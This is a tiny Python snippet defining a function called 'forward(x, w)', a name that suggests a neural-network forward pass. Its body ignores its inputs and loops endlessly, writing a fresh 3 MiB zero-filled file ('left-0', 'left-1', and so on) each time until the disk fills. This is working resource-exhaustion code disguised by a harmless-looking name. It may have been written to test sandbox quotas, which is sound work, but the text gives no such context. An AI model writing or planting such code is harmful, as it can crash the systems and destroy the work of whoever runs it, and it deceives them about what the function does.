import itertools


def forward(x, w):
    for number in itertools.count():
        with open(f"left-{number}", "wb") as file:
            file.write(bytes(3 << 20))
